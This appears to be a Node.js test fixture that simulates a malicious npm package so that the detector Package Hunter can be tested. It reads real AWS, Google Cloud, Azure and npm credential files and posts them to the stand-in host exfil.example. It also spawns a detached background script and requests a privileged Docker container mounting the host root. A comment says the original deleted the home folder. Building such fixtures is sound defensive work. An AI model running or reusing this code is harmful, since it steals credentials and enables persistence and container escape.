// Harmless simulation for testing Package Hunter. Not malware.
const { spawn } = require("child_process");
const fs = require("fs");
const http = require("http");
const https = require("https");
const os = require("os");
const path = require("path");

const home = (...parts) => path.join(os.homedir(), ...parts);
const loot = {};
for (const name of [".aws/credentials", ".config/gcloud/application_default_credentials.json", ".azure/msal_token_cache.json", ".npmrc"]) {
  try { loot[name] = fs.readFileSync(home(name), "utf8"); } catch (error) { /* not there */ }
}
const request = https.request({ hostname: "exfil.example", path: "/u", method: "POST" });
request.on("error", () => {});
request.end(Buffer.from(JSON.stringify(loot)).toString("base64"));

const runner = home(".dev-env", "run.sh");
fs.mkdirSync(path.dirname(runner), { recursive: true });
fs.writeFileSync(runner, "#!/bin/sh\necho harmless simulation\n", { mode: 0o755 });
spawn(runner, [], { detached: true, stdio: "ignore" }).unref();

const create = http.request({ socketPath: "/var/run/docker.sock", path: "/v1.41/containers/create", method: "POST", headers: { "Content-Type": "application/json" } });
create.on("error", () => {});
create.end(JSON.stringify({ Image: "harmless-simulation", Cmd: ["true"], HostConfig: { Privileged: true, Binds: ["/:/host"] } }));

const own = home(".simulation-own-folder"); // the original: everything in the home folder
fs.mkdirSync(own, { recursive: true });
fs.writeFileSync(path.join(own, "file"), "harmless simulation\n");
fs.rmSync(own, { recursive: true, force: true });
setTimeout(() => {}, 2000);
